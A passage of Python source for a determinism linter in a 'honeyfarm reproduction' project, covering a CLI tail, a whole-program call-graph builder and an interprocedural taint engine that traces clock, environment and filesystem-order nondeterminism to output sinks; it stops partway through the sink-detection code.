                                  rules if rules is not None
                                  else default_rules()))
    else:
        print(render_text(result.findings))
        notes = [f"{result.files} file(s) linted"]
        if result.suppressed:
            notes.append(f"{result.suppressed} suppressed inline")
        if result.baselined:
            notes.append(f"{result.baselined} absorbed by baseline")
        print("-- " + ", ".join(notes))
    return 0 if result.clean else 1


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro lint",
        description="determinism & invariant linter for the honeyfarm "
                    "reproduction (see DESIGN section 6e)",
    )
    add_lint_arguments(parser)
    return cmd_lint(parser.parse_args(argv))


if __name__ == "__main__":
    raise SystemExit(main())
