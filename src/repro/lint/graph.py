"""Whole-program structure: the import graph and an approximate call graph.

The per-file rules of :mod:`repro.lint.rules` see one file at a time;
the cross-module analyses (determinism taint tracking, RNG stream
lineage, worker-boundary safety) need to know *who calls whom* across
the whole of ``src/repro``.  :class:`ProjectGraph` supplies that: every
parsed file becomes a :class:`ModuleInfo`, every ``def`` (top-level,
method, or nested) a :class:`FunctionInfo`, and every call site a
:class:`CallSite` whose targets are resolved as precisely as the static
evidence allows:

* ``f(...)`` — a name defined in the same module (or a sibling nested
  function), an imported symbol, or a builtin;
* ``mod.f(...)`` — through ``import``/``from``-``import`` aliases, into
  other project modules;
* ``self.m(...)`` — the method in the lexically enclosing class;
* ``obj.m(...)`` — *dynamic dispatch fallback*: every project method
  with that bare name becomes a candidate, capped at
  :data:`MAX_DYNAMIC_CANDIDATES` (past that the call is treated as
  unresolved — a documented soundness limit, see DESIGN section 6j).

The graph is deliberately approximate: no aliasing of function objects,
no ``getattr`` strings, no decorator unwrapping beyond the plain node.
It errs toward *resolving* (dynamic fallback over-approximates callees)
because the analyses built on top are reachability- and taint-style,
where a missed edge is a missed bug but a spurious edge is at worst a
suppressible finding.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

#: An attribute call whose bare method name matches more project methods
#: than this is left unresolved rather than fanned out to all of them.
MAX_DYNAMIC_CANDIDATES = 6


@dataclass
class CallSite:
    """One call expression inside a function body."""

    node: ast.Call
    raw: str                      # the callee as written ("self.rng.child")
    targets: Tuple[str, ...]      # resolved project function ids
    external: Optional[str] = None  # dotted external name when unresolved
    dynamic: bool = False         # resolved by bare-method-name fallback


@dataclass
class FunctionInfo:
    """One ``def`` (module-level, method, or nested) in the project."""

    fid: str                      # "module:qualname", the graph-wide id
    module: str                   # dotted module name
    qualname: str                 # "Class.method", "func", "outer.inner"
    name: str                     # bare name
    node: ast.AST                 # FunctionDef / AsyncFunctionDef
    path: str                     # display path (as reported in findings)
    rel: str                      # package-relative path (layer checks)
    lineno: int
    is_async: bool
    params: Tuple[str, ...]
    class_name: Optional[str] = None
    calls: List[CallSite] = field(default_factory=list)

    @property
    def pretty(self) -> str:
        """Human form used in finding messages: ``qualname (path:line)``."""
        return f"{self.qualname} ({self.path}:{self.lineno})"


@dataclass
class ModuleInfo:
    """One parsed file as the whole-program analyses see it."""

    name: str                     # dotted module name ("repro.store.npz")
    package: str                  # first component under repro ("store")
    path: str                     # display path
    rel: str                      # package-relative path
    tree: ast.AST
    #: ``import a.b as c`` -> {"c": "a.b"}
    imports: Dict[str, str] = field(default_factory=dict)
    #: ``from a.b import f as g`` -> {"g": "a.b.f"}
    from_imports: Dict[str, str] = field(default_factory=dict)
    #: qualnames of functions defined here -> fid
    functions: Dict[str, str] = field(default_factory=dict)
    #: module-level names bound to mutable literals/constructors -> lineno
    module_mutables: Dict[str, int] = field(default_factory=dict)


def module_name_for(rel: str) -> str:
    """Dotted module name from a package-relative path.

    ``store/npz.py`` -> ``repro.store.npz``; ``api.py`` ->
    ``repro.api``.  Files outside the package reduce to a basename rel
    (see the engine's ``_package_relative``), so a fixture or scratch
    file becomes ``repro.<stem>`` — a one-module graph of its own that
    cannot be confused with real package modules by the analyses, which
    key on resolved imports rather than name shape.
    """
    stem = rel[:-3] if rel.endswith(".py") else rel
    parts = [p for p in stem.split("/") if p]
    if parts and parts[-1] == "__init__":
        parts = parts[:-1]
    return ".".join(["repro"] + parts) if parts else "repro"


@dataclass
class _MutableScan(ast.NodeVisitor):
    """Collect module-level names assigned mutable containers."""

    out: Dict[str, int] = field(default_factory=dict)

    _CTORS = ("list", "dict", "set", "deque", "defaultdict", "OrderedDict",
              "Counter")

    def _mutable(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.List, ast.Dict, ast.Set,
                             ast.ListComp, ast.DictComp, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in self._CTORS
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            return node.func.attr in self._CTORS
        return False

    def scan(self, tree: ast.AST) -> Dict[str, int]:
        for node in getattr(tree, "body", []):
            targets: List[ast.expr] = []
            value: Optional[ast.expr] = None
            if isinstance(node, ast.Assign):
                targets, value = node.targets, node.value
            elif isinstance(node, ast.AnnAssign) and node.value is not None:
                targets, value = [node.target], node.value
            if value is None or not self._mutable(value):
                continue
            for target in targets:
                if isinstance(target, ast.Name):
                    self.out.setdefault(target.id, node.lineno)
        return self.out


def dotted_name(node: ast.AST) -> Optional[str]:
    """``a.b.c`` for a Name/Attribute chain, else None."""
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


class ProjectGraph:
    """The project-wide module/function/call structure.

    Build once per lint run from the engine's parsed
    :class:`~repro.lint.rules.FileContext` objects (anything with
    ``path``/``rel``/``tree`` attributes), then query from the
    graph-aware rules.
    """

    def __init__(self) -> None:
        self.modules: Dict[str, ModuleInfo] = {}
        self.functions: Dict[str, FunctionInfo] = {}
        #: bare method name -> fids of methods so named (dynamic fallback)
        self._methods_by_name: Dict[str, List[str]] = {}
        #: bare function name -> fids (module-level defs)
        self._functions_by_name: Dict[str, List[str]] = {}
        self._callers: Optional[Dict[str, Set[str]]] = None

    # -- construction ----------------------------------------------------------

    @classmethod
    def build(cls, contexts: Sequence[object]) -> "ProjectGraph":
        graph = cls()
        for ctx in contexts:
            graph._add_module(
                path=str(getattr(ctx, "path")),
                rel=str(getattr(ctx, "rel")),
                tree=getattr(ctx, "tree"),
            )
        for module in graph.modules.values():
            graph._collect_functions(module)
        for module in graph.modules.values():
            graph._resolve_calls(module)
        return graph

    def _add_module(self, path: str, rel: str, tree: ast.AST) -> None:
        name = module_name_for(rel)
        if name in self.modules:
            # Two files mapping to one dotted name (e.g. scratch files
            # with equal basenames): keep both, disambiguated by path.
            name = f"{name}#{path}"
        package = name.split(".")[1] if name.startswith("repro.") else name
        info = ModuleInfo(
            name=name, package=package, path=path, rel=rel, tree=tree,
            module_mutables=_MutableScan().scan(tree),
        )
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.asname:
                        info.imports[alias.asname] = alias.name
                    else:
                        root = alias.name.split(".")[0]
                        info.imports[root] = root
            elif isinstance(node, ast.ImportFrom):
                if node.module is None or node.level:
                    continue  # relative imports are not used in this tree
                for alias in node.names:
                    info.from_imports[alias.asname or alias.name] = (
                        f"{node.module}.{alias.name}"
                    )
        self.modules[name] = info

    def _collect_functions(self, module: ModuleInfo) -> None:
        def visit(nodes: Iterable[ast.AST], prefix: str,
                  class_name: Optional[str]) -> None:
            for node in nodes:
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    qual = f"{prefix}{node.name}"
                    fid = f"{module.name}:{qual}"
                    args = node.args
                    params = tuple(
                        a.arg for a in (
                            list(args.posonlyargs) + list(args.args)
                        )
                    )
                    fn = FunctionInfo(
                        fid=fid, module=module.name, qualname=qual,
                        name=node.name, node=node, path=module.path,
                        rel=module.rel, lineno=node.lineno,
                        is_async=isinstance(node, ast.AsyncFunctionDef),
                        params=params, class_name=class_name,
                    )
                    self.functions[fid] = fn
                    module.functions[qual] = fid
                    if class_name is not None:
                        self._methods_by_name.setdefault(
                            node.name, []).append(fid)
                    else:
                        self._functions_by_name.setdefault(
                            node.name, []).append(fid)
                    visit(node.body, f"{qual}.", class_name)
                elif isinstance(node, ast.ClassDef):
                    visit(node.body, f"{prefix}{node.name}.", node.name)
                elif isinstance(node, (ast.If, ast.Try)):
                    # Conditionally-defined functions still exist.
                    body = list(node.body) + list(getattr(node, "orelse", []))
                    body += [h for hs in getattr(node, "handlers", [])
                             for h in hs.body]
                    visit(body, prefix, class_name)
        visit(getattr(module.tree, "body", []), "", None)

    # -- call resolution -------------------------------------------------------

    def _resolve_calls(self, module: ModuleInfo) -> None:
        for qual, fid in module.functions.items():
            fn = self.functions[fid]
            for call in self._walk_own_calls(fn.node):
                fn.calls.append(self._resolve_one(module, fn, call))

    @staticmethod
    def _walk_own_calls(func_node: ast.AST) -> Iterable[ast.Call]:
        """Call nodes in a function body, excluding nested ``def`` bodies."""
        stack: List[ast.AST] = list(ast.iter_child_nodes(func_node))
        while stack:
            node = stack.pop()
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue  # nested functions own their calls
            if isinstance(node, ast.Call):
                yield node
            stack.extend(ast.iter_child_nodes(node))

    def _project_function(self, dotted: str) -> Optional[str]:
        """``repro.store.npz.save_npz`` -> its fid, when it exists."""
        mod, _, attr = dotted.rpartition(".")
        info = self.modules.get(mod)
        if info is not None and attr in info.functions:
            return info.functions[attr]
        # Classes: ``repro.x.Cls`` called as a constructor -> __init__.
        if info is None and "." in mod:
            pkg, _, cls = mod.rpartition(".")
            info = self.modules.get(pkg)
            if info is not None and f"{cls}.{attr}" in info.functions:
                return info.functions[f"{cls}.{attr}"]
        return None

    def _resolve_one(self, module: ModuleInfo, fn: FunctionInfo,
                     call: ast.Call) -> CallSite:
        func = call.func
        raw = dotted_name(func) or "<expr>"
        # Plain name: local def, sibling nested def, import, or builtin.
        if isinstance(func, ast.Name):
            name = func.id
            parent = fn.qualname.rsplit(".", 1)[0] if "." in fn.qualname else ""
            for candidate in (
                f"{fn.qualname}.{name}",            # own nested def
                f"{parent}.{name}" if parent else "",  # sibling nested def
                name,                                # module-level def
            ):
                if candidate and candidate in module.functions:
                    return CallSite(call, raw,
                                    (module.functions[candidate],))
            if name in module.from_imports:
                dotted = module.from_imports[name]
                target = self._project_function(dotted)
                if target is None:
                    # ``from x import Cls`` then ``Cls(...)``.
                    target = self._project_function(f"{dotted}.__init__")
                if target is not None:
                    return CallSite(call, raw, (target,))
                return CallSite(call, raw, (), external=dotted)
            return CallSite(call, raw, (), external=name)
        # Attribute chain.
        if isinstance(func, ast.Attribute):
            method = func.attr
            root = func.value
            dotted = dotted_name(func)
            if isinstance(root, ast.Name):
                if root.id == "self" and fn.class_name is not None:
                    qual = f"{fn.class_name}.{method}"
                    if qual in module.functions:
                        return CallSite(call, raw,
                                        (module.functions[qual],))
                alias = module.imports.get(root.id)
                if alias is None and root.id in module.from_imports:
                    alias = module.from_imports[root.id]
                if alias is not None and dotted is not None:
                    full = alias + dotted[len(root.id):]
                    target = self._project_function(full)
                    if target is None:
                        target = self._project_function(f"{full}.__init__")
                    if target is not None:
                        return CallSite(call, raw, (target,))
                    return CallSite(call, raw, (), external=full)
            # Dynamic dispatch fallback: every project method so named.
            candidates = self._methods_by_name.get(method, [])
            if 0 < len(candidates) <= MAX_DYNAMIC_CANDIDATES:
                return CallSite(call, raw, tuple(sorted(candidates)),
                                dynamic=True)
            return CallSite(call, raw, (), external=dotted or method,
                            dynamic=True)
        return CallSite(call, raw, (), external=None, dynamic=True)

    # -- queries ---------------------------------------------------------------

    def function(self, fid: str) -> FunctionInfo:
        return self.functions[fid]

    def callers(self) -> Dict[str, Set[str]]:
        """fid -> set of fids with a call site targeting it (cached)."""
        if self._callers is None:
            callers: Dict[str, Set[str]] = {}
            for fn in self.functions.values():
                for call in fn.calls:
                    for target in call.targets:
                        callers.setdefault(target, set()).add(fn.fid)
            self._callers = callers
        return self._callers

    def reachable(self, seeds: Iterable[str],
                  include_dynamic: bool = True) -> Set[str]:
        """Function ids reachable from ``seeds`` along call edges."""
        seen: Set[str] = set()
        stack = [fid for fid in seeds if fid in self.functions]
        while stack:
            fid = stack.pop()
            if fid in seen:
                continue
            seen.add(fid)
            for call in self.functions[fid].calls:
                if call.dynamic and not include_dynamic:
                    continue
                stack.extend(t for t in call.targets if t not in seen)
        return seen

    def import_graph(self) -> Dict[str, Set[str]]:
        """module name -> project modules it imports (direct edges)."""
        out: Dict[str, Set[str]] = {}
        names = set(self.modules)
        for module in self.modules.values():
            edges: Set[str] = set()
            for dotted in list(module.imports.values()) \
                    + list(module.from_imports.values()):
                probe = dotted
                while probe:
                    if probe in names:
                        edges.add(probe)
                        break
                    probe = probe.rpartition(".")[0]
            edges.discard(module.name)
            out[module.name] = edges
        return out
