"""The interprocedural determinism taint engine.

Seeds taint at *nondeterministic sources* — wall-clock reads,
environment reads, ``id()``/``hash()`` object identity, process
identity, unsorted directory listings — and propagates it along the
:class:`~repro.lint.graph.ProjectGraph` call graph to *sinks*: store
append paths, trace-event payloads, and hash-verified output.  Every
finding carries the full source→sink call path, so a nondeterministic
value threading three frames into a store column reads as one line.

The analysis is a classic two-level fixpoint:

* **intraprocedural** — each function body is walked twice (a cheap
  loop approximation), tracking a token set per local name.  Tokens are
  either :class:`Evidence` (a concrete source observation plus the call
  chain it travelled) or a bare parameter index (symbolic taint used to
  build summaries).
* **interprocedural** — each function gets a :class:`Summary` (does the
  return carry taint? which parameters flow to the return? which
  parameters reach a sink?).  Summaries are iterated to a fixpoint over
  the call graph, so cycles and mutual recursion converge; the final
  pass collects findings.

Sanitizers are *layers*, mirroring the per-file rules' allowlists: the
``obs``/``lint`` layers may read clocks and environment by design, so
functions defined there are treated as returning clean values and are
not analysed for sinks.  The obs boundary is audited separately — by
the per-file ``wall-clock`` rule and the volatile-fields contracts of
the tracer and ledger (DESIGN sections 6d/6i).

Soundness limits (documented, deliberate): no implicit flows (a branch
on a tainted value does not taint what the branch computes), no
container element tracking (a tainted element taints the whole
container, never selectively), comprehension bodies are opaque, and
attribute stores on ``self`` do not persist across methods.  See DESIGN
section 6j for the full table.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from fnmatch import fnmatchcase
from typing import Dict, FrozenSet, Iterable, List, Optional, Sequence, Set, \
    Tuple, Union

from repro.lint.graph import CallSite, FunctionInfo, ModuleInfo, \
    ProjectGraph, dotted_name

#: Layers whose functions are trusted sanitizers: values they return are
#: treated as clean and their bodies are not searched for sinks.
SANITIZED_LAYERS: Tuple[str, ...] = ("obs/", "lint/", "__main__.py")

#: Trace-event kinds excluded from the trace sink: declared volatile,
#: stripped before any byte-identity comparison (see repro.obs.trace).
VOLATILE_TRACE_KINDS: Tuple[str, ...] = ("sched.heartbeat.*",)

#: Longest call chain retained in evidence (longer chains truncate).
MAX_CHAIN = 10

#: ``time.<func>`` names that read a real clock.
_TIME_FUNCS = frozenset({
    "time", "time_ns", "monotonic", "monotonic_ns", "perf_counter",
    "perf_counter_ns", "process_time", "process_time_ns", "clock_gettime",
})
_DATETIME_CALLS = frozenset({"now", "utcnow", "today", "fromtimestamp"})
_PROCESS_IDENTITY = frozenset({
    "os.getpid", "os.getppid", "socket.gethostname", "platform.node",
    "uuid.uuid1", "uuid.uuid4",
})
_FS_LISTINGS = frozenset({
    "os.listdir", "os.scandir", "glob.glob", "glob.iglob",
})
_FS_PATH_METHODS = frozenset({"glob", "rglob", "iterdir"})

#: Store-append method names that always sink (no receiver guess needed).
_STORE_SINK_METHODS = frozenset({
    "append_block", "append_interned", "adopt", "adopt_store",
})
#: ``.append`` sinks only on receivers that look like builders/stores —
#: plain ``list.append`` must not.
_BUILDER_HINTS = ("builder", "store")

#: Mutating container methods (used by the worker-boundary rule too).
MUTATING_METHODS = frozenset({
    "append", "add", "update", "pop", "popitem", "extend", "setdefault",
    "clear", "remove", "discard", "insert", "appendleft", "extendleft",
    "__setitem__",
})


@dataclass(frozen=True)
class Evidence:
    """One concrete nondeterministic observation plus its travel path."""

    kind: str          # "wall-clock" | "env-read" | "object-identity" | ...
    source_desc: str   # e.g. "time.perf_counter()"
    source_path: str
    source_line: int
    chain: Tuple[str, ...] = ()   # pretty frames traversed, source first

    def through(self, frame: str) -> "Evidence":
        if self.chain and self.chain[-1] == frame:
            return self
        if len(self.chain) >= MAX_CHAIN:
            return self
        return Evidence(self.kind, self.source_desc, self.source_path,
                        self.source_line, self.chain + (frame,))

    def render(self) -> str:
        head = f"{self.source_desc} ({self.source_path}:{self.source_line})"
        return " -> ".join((head,) + self.chain)


#: A taint token: concrete evidence, or a parameter index (symbolic).
Token = Union[Evidence, int]
TokenSet = Set[Token]


def _token_order(token: Token) -> Tuple[int, str, str, int, str, str]:
    """A total order over tokens, for deterministic set iteration."""
    if isinstance(token, int):
        return (0, "", "", token, "", "")
    return (1, token.kind, token.source_path, token.source_line,
            token.source_desc, " -> ".join(token.chain))


@dataclass(frozen=True)
class SinkHit:
    """A sink reachable from a parameter of the summarised function."""

    sink_desc: str
    path: str
    line: int
    col: int
    chain: Tuple[str, ...] = ()   # frames from the summarised fn to the sink

    def through(self, frame: str) -> "SinkHit":
        if len(self.chain) >= MAX_CHAIN:
            return self
        return SinkHit(self.sink_desc, self.path, self.line, self.col,
                       (frame,) + self.chain)


@dataclass(frozen=True)
class TaintFinding:
    """A complete source→sink flow, located at the sink."""

    path: str
    line: int
    col: int
    kind: str
    message: str


@dataclass
class Summary:
    """What callers need to know about one function."""

    returns: Optional[Evidence] = None
    param_to_return: FrozenSet[int] = frozenset()
    param_sinks: Dict[int, SinkHit] = field(default_factory=dict)
    findings: List[TaintFinding] = field(default_factory=list)

    def signature(self) -> Tuple[bool, FrozenSet[int], FrozenSet[int]]:
        """The part of the summary the fixpoint iterates on."""
        return (self.returns is not None, self.param_to_return,
                frozenset(self.param_sinks))


class DataflowAnalysis:
    """Run the taint engine over a built :class:`ProjectGraph`."""

    def __init__(self, graph: ProjectGraph,
                 sanitized_layers: Sequence[str] = SANITIZED_LAYERS,
                 volatile_trace_kinds: Sequence[str] = VOLATILE_TRACE_KINDS,
                 max_passes: int = 12):
        self.graph = graph
        self.sanitized_layers = tuple(sanitized_layers)
        self.volatile_trace_kinds = tuple(volatile_trace_kinds)
        self.max_passes = max_passes
        self.summaries: Dict[str, Summary] = {}

    # -- public ----------------------------------------------------------------

    def run(self) -> List[TaintFinding]:
        """Fixpoint over all function summaries; returns deduped findings."""
        order = sorted(self.graph.functions)
        for fid in order:
            self.summaries[fid] = Summary()
        for _ in range(self.max_passes):
            changed = False
            for fid in order:
                if self._sanitized(self.graph.functions[fid]):
                    continue
                new = self._analyze(self.graph.functions[fid])
                if new.signature() != self.summaries[fid].signature():
                    changed = True
                self.summaries[fid] = new
            if not changed:
                break
        seen: Set[Tuple[str, int, int, str]] = set()
        findings: List[TaintFinding] = []
        for fid in order:
            for finding in self.summaries[fid].findings:
                key = (finding.path, finding.line, finding.col, finding.kind)
                if key not in seen:
                    seen.add(key)
                    findings.append(finding)
        return findings

    # -- helpers ---------------------------------------------------------------

    def _sanitized(self, fn: FunctionInfo) -> bool:
        for prefix in self.sanitized_layers:
            if fn.rel == prefix or fn.rel.startswith(prefix):
                return True
        return False

    def _module_of(self, fn: FunctionInfo) -> ModuleInfo:
        return self.graph.modules[fn.module]

    def _analyze(self, fn: FunctionInfo) -> Summary:
        return _FunctionAnalyzer(self, fn).run()


class _FunctionAnalyzer:
    """One function body, walked twice, against current summaries."""

    def __init__(self, analysis: DataflowAnalysis, fn: FunctionInfo):
        self.analysis = analysis
        self.graph = analysis.graph
        self.fn = fn
        self.module = analysis._module_of(fn)
        self.env: Dict[str, TokenSet] = {
            name: {i} for i, name in enumerate(fn.params)
        }
        self.summary = Summary()

    def run(self) -> Summary:
        body = list(getattr(self.fn.node, "body", []))
        for _ in range(2):   # second pass approximates loop-carried flow
            self._stmts(body)
        self.summary.findings = list(dict.fromkeys(self.summary.findings))
        return self.summary

    # -- statements ------------------------------------------------------------

    def _stmts(self, stmts: Iterable[ast.stmt]) -> None:
        for stmt in stmts:
            self._stmt(stmt)

    def _stmt(self, stmt: ast.stmt) -> None:
        if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef,
                             ast.ClassDef)):
            return   # nested defs are analysed as their own functions
        if isinstance(stmt, ast.Assign):
            tokens = self._expr(stmt.value)
            for target in stmt.targets:
                self._assign(target, tokens)
        elif isinstance(stmt, ast.AnnAssign) and stmt.value is not None:
            self._assign(stmt.target, self._expr(stmt.value))
        elif isinstance(stmt, ast.AugAssign):
            tokens = self._expr(stmt.value)
            self._assign(stmt.target, tokens, augment=True)
        elif isinstance(stmt, ast.Return):
            if stmt.value is not None:
                self._flow_to_return(self._expr(stmt.value))
        elif isinstance(stmt, ast.Expr):
            self._expr(stmt.value)
        elif isinstance(stmt, (ast.For, ast.AsyncFor)):
            self._assign(stmt.target, self._expr(stmt.iter))
            self._stmts(stmt.body)
            self._stmts(stmt.orelse)
        elif isinstance(stmt, ast.While):
            self._expr(stmt.test)
            self._stmts(stmt.body)
            self._stmts(stmt.orelse)
        elif isinstance(stmt, ast.If):
            self._expr(stmt.test)
            self._stmts(stmt.body)
            self._stmts(stmt.orelse)
        elif isinstance(stmt, (ast.With, ast.AsyncWith)):
            for item in stmt.items:
                tokens = self._expr(item.context_expr)
                if item.optional_vars is not None:
                    self._assign(item.optional_vars, tokens)
            self._stmts(stmt.body)
        elif isinstance(stmt, ast.Try):
            self._stmts(stmt.body)
            for handler in stmt.handlers:
                self._stmts(handler.body)
            self._stmts(stmt.orelse)
            self._stmts(stmt.finalbody)
        elif isinstance(stmt, (ast.Raise, ast.Assert)):
            for child in ast.iter_child_nodes(stmt):
                if isinstance(child, ast.expr):
                    self._expr(child)
        elif isinstance(stmt, ast.Delete):
            for target in stmt.targets:
                if isinstance(target, ast.Name):
                    self.env.pop(target.id, None)

    def _assign(self, target: ast.expr, tokens: TokenSet,
                augment: bool = False) -> None:
        if isinstance(target, ast.Name):
            if augment:
                self.env[target.id] = self.env.get(target.id, set()) | tokens
            else:
                self.env[target.id] = set(tokens)
        elif isinstance(target, (ast.Tuple, ast.List)):
            for elt in target.elts:
                self._assign(elt, tokens, augment=True)
        elif isinstance(target, ast.Starred):
            self._assign(target.value, tokens, augment=True)
        elif isinstance(target, (ast.Subscript, ast.Attribute)):
            # record["t"] = tainted  /  obj.t = tainted: taint the root
            # name so a later use of the container carries the taint.
            root: ast.expr = target
            while isinstance(root, (ast.Subscript, ast.Attribute)):
                root = root.value
            if isinstance(root, ast.Name) and tokens:
                self.env[root.id] = self.env.get(root.id, set()) | tokens

    def _flow_to_return(self, tokens: TokenSet) -> None:
        for token in tokens:
            if isinstance(token, int):
                self.summary.param_to_return = (
                    self.summary.param_to_return | {token}
                )
            elif self.summary.returns is None:
                self.summary.returns = token

    # -- expressions -----------------------------------------------------------

    def _expr(self, node: ast.expr) -> TokenSet:
        if isinstance(node, ast.Name):
            return set(self.env.get(node.id, set()))
        if isinstance(node, ast.Call):
            return self._call(node)
        if isinstance(node, ast.Subscript):
            source = self._env_subscript_source(node)
            if source is not None:
                return source
            return self._expr(node.value) | self._expr(node.slice)
        if isinstance(node, ast.Attribute):
            return self._expr(node.value)
        if isinstance(node, ast.BinOp):
            return self._expr(node.left) | self._expr(node.right)
        if isinstance(node, ast.BoolOp):
            out: TokenSet = set()
            for value in node.values:
                out |= self._expr(value)
            return out
        if isinstance(node, ast.UnaryOp):
            if isinstance(node.op, ast.Not):
                self._expr(node.operand)
                return set()
            return self._expr(node.operand)
        if isinstance(node, ast.Compare):
            self._expr(node.left)
            for comp in node.comparators:
                self._expr(comp)
            return set()   # comparisons feed control flow, not values
        if isinstance(node, ast.IfExp):
            self._expr(node.test)
            return self._expr(node.body) | self._expr(node.orelse)
        if isinstance(node, ast.JoinedStr):
            out = set()
            for value in node.values:
                if isinstance(value, ast.FormattedValue):
                    out |= self._expr(value.value)
            return out
        if isinstance(node, ast.FormattedValue):
            return self._expr(node.value)
        if isinstance(node, (ast.List, ast.Tuple, ast.Set)):
            out = set()
            for elt in node.elts:
                out |= self._expr(elt)
            return out
        if isinstance(node, ast.Dict):
            out = set()
            for key in node.keys:
                if key is not None:
                    out |= self._expr(key)
            for value in node.values:
                out |= self._expr(value)
            return out
        if isinstance(node, ast.Starred):
            return self._expr(node.value)
        if isinstance(node, ast.Await):
            return self._expr(node.value)
        if isinstance(node, (ast.Yield, ast.YieldFrom)):
            if node.value is not None:
                self._flow_to_return(self._expr(node.value))
            return set()
        if isinstance(node, ast.NamedExpr):
            tokens = self._expr(node.value)
            self._assign(node.target, tokens)
            return tokens
        # Constants, lambdas, comprehensions (opaque): clean.
        return set()

    # -- calls -----------------------------------------------------------------

    def _call(self, call: ast.Call) -> TokenSet:
        # 1. Is the call itself a nondeterministic source?
        source = self._source_at(call)
        arg_tokens: List[TokenSet] = [self._expr(a) for a in call.args]
        kw_tokens: Dict[str, TokenSet] = {
            kw.arg: self._expr(kw.value) for kw in call.keywords
            if kw.arg is not None
        }
        for kw in call.keywords:
            if kw.arg is None:
                kw_tokens.setdefault("**", set()).update(self._expr(kw.value))
        receiver_tokens: TokenSet = set()
        if isinstance(call.func, ast.Attribute):
            receiver_tokens = self._expr(call.func.value)
        if source is not None:
            return {source}

        site = self._site_for(call)

        # 2. Sink check (the engine's reason to exist).
        self._check_sink(call, site, arg_tokens, kw_tokens)

        # 3. Result taint from callee summaries.
        out: TokenSet = set()
        frame = self.fn.pretty
        targets = site.targets if site is not None else ()
        for target_fid in targets:
            summary = self.analysis.summaries.get(target_fid)
            target = self.graph.functions[target_fid]
            if summary is None:
                continue
            if summary.returns is not None:
                out.add(summary.returns.through(target.pretty).through(frame))
            offset = 1 if target.class_name is not None \
                and isinstance(call.func, ast.Attribute) else 0
            for index, tokens in self._map_args(
                    target, offset, arg_tokens, kw_tokens):
                if not tokens:
                    continue
                if index in summary.param_to_return:
                    out |= self._extend(tokens, target.pretty, frame)
                hit = summary.param_sinks.get(index)
                if hit is not None:
                    self._record_cross_finding(tokens, target, hit)
        if site is None or not site.targets:
            # External / unresolved call: conservative pass-through of
            # argument and receiver taint (str(x), x.strip(), ...).
            fs_clean = isinstance(call.func, ast.Name) \
                and call.func.id == "sorted"
            for tokens in arg_tokens:
                out |= tokens
            for tokens in kw_tokens.values():
                out |= tokens
            out |= receiver_tokens
            if fs_clean:
                # Set-to-set filter; no iteration order reaches output.
                out = {t for t in out  # repro: lint-ok[unordered-iter]
                       if not (isinstance(t, Evidence)
                               and t.kind == "fs-order")}
        return out

    def _extend(self, tokens: TokenSet, callee_frame: str,
                frame: str) -> TokenSet:
        out: TokenSet = set()
        for token in tokens:
            if isinstance(token, Evidence):
                out.add(token.through(callee_frame).through(frame))
            else:
                out.add(token)
        return out

    def _site_for(self, call: ast.Call) -> Optional[CallSite]:
        for site in self.fn.calls:
            if site.node is call:
                return site
        return None

    @staticmethod
    def _map_args(target: FunctionInfo, offset: int,
                  arg_tokens: List[TokenSet],
                  kw_tokens: Dict[str, TokenSet]) -> \
            Iterable[Tuple[int, TokenSet]]:
        """(callee param index, caller token set) pairs for one call."""
        for pos, tokens in enumerate(arg_tokens):
            index = pos + offset
            if index < len(target.params):
                yield index, tokens
        for name, tokens in kw_tokens.items():
            if name == "**":
                continue
            if name in target.params:
                yield target.params.index(name), tokens

    # -- sources ---------------------------------------------------------------

    def _resolved_dotted(self, node: ast.expr) -> Optional[str]:
        """The dotted callee with the root import alias resolved."""
        dotted = dotted_name(node)
        if dotted is None:
            return None
        root, _, rest = dotted.partition(".")
        if root in self.module.imports:
            base = self.module.imports[root]
            return f"{base}.{rest}" if rest else base
        if root in self.module.from_imports:
            base = self.module.from_imports[root]
            return f"{base}.{rest}" if rest else base
        return dotted

    def _source_at(self, call: ast.Call) -> Optional[Evidence]:
        resolved = self._resolved_dotted(call.func)
        kind: Optional[str] = None
        desc = ""
        if resolved is not None:
            head, _, tail = resolved.partition(".")
            terminal = resolved.rsplit(".", 1)[-1]
            if head == "time" and tail in _TIME_FUNCS:
                kind, desc = "wall-clock", f"{resolved}()"
            elif head == "datetime" and terminal in _DATETIME_CALLS:
                kind, desc = "wall-clock", f"{resolved}()"
            elif resolved in ("os.getenv", "os.environ.get"):
                kind, desc = "env-read", f"{resolved}(...)"
            elif resolved in _PROCESS_IDENTITY:
                kind, desc = "process-identity", f"{resolved}()"
            elif resolved in _FS_LISTINGS:
                kind, desc = "fs-order", f"{resolved}(...)"
        if kind is None and isinstance(call.func, ast.Name) \
                and call.func.id in ("id", "hash") and call.args \
                and call.func.id not in self.env \
                and call.func.id not in self.module.functions \
                and call.func.id not in self.module.from_imports:
            kind, desc = "object-identity", f"{call.func.id}(...)"
        if kind is None and isinstance(call.func, ast.Attribute) \
                and call.func.attr in _FS_PATH_METHODS \
                and not isinstance(call.func.value, ast.Constant):
            # Path-like .glob/.rglob/.iterdir; datetime handled above.
            receiver = dotted_name(call.func.value)
            if receiver is None or receiver.split(".")[0] not in (
                    "os", "glob"):
                kind = "fs-order"
                desc = f".{call.func.attr}(...)"
        if kind is None:
            return None
        return Evidence(kind, desc, self.fn.path, call.lineno,
                        (self.fn.pretty,))

    def _env_subscript_source(self, node: ast.Subscript) -> \
            Optional[TokenSet]:
        resolved = self._resolved_dotted(node.value)
        if resolved == "os.environ":
            return {Evidence("env-read", "os.environ[...]", self.fn.path,
                             node.lineno, (self.fn.pretty,))}
        return None

    # -- sinks -----------------------------------------------------------------

    def _sink_desc(self, call: ast.Call) -> Optional[str]:
        func = call.func
